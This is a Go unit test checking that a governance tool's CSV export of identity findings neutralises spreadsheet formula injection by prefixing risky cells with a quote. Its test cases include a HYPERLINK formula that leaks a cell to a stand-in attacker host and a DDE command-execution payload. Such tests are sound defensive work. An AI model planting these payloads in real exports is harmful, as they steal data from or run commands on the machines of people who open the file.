package governance_test

import (
	"bytes"
	"encoding/csv"
	"testing"

	gocmp "github.com/google/go-cmp/cmp"

	"github.com/shiftgate/shiftgate/hub/governance"
)

// TestFindingsCSVNeutralizesFormulas: a user name or detail from the
// identity provider that a spreadsheet would run as a formula (a cell
// starting with = + - @, a tab or a carriage return) is written with a
// leading single quote, so Excel and LibreOffice show it as text; other
// cells are written as they are.
func TestFindingsCSVNeutralizesFormulas(t *testing.T) {
	for _, tc := range []struct {
		name, in, want string
	}{
		{"equals", `=HYPERLINK("https://evil.example/?"&A1,"open")`, `'=HYPERLINK("https://evil.example/?"&A1,"open")`},
		{"plus", "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"minus", "-2+3", "'-2+3"},
		{"at", "@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"tab", "\t=1+1", "'\t=1+1"},
		{"carriage return", "\r=1+1", "'\r=1+1"},
		{"plain", "ana.lopez", "ana.lopez"},
		{"formula character later", "ana=1+1@x", "ana=1+1@x"},
		{"empty", "", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var out bytes.Buffer
			f := governance.Finding{ID: "no_login-1", Kind: "dormant", Rule: "no_login", UserID: "u1", User: tc.in,
				Entitlement: tc.in, Remediation: "revoke its active credentials", Detail: tc.in}
			if err := governance.WriteFindingsCSV(&out, []governance.Finding{f}); err != nil {
				t.Fatal(err)
			}
			rows, err := csv.NewReader(&out).ReadAll()
			if err != nil {
				t.Fatalf("read back: %v", err)
			}
			want := [][]string{
				{"id", "kind", "rule", "user_id", "user", "entitlement", "since", "remediation", "detail"},
				{"no_login-1", "dormant", "no_login", "u1", tc.want, tc.want, "", "revoke its active credentials", tc.want},
			}
			if d := gocmp.Diff(want, rows); d != "" {
				t.Errorf("CSV rows (-want +got):\n%s", d)
			}
		})
	}
}
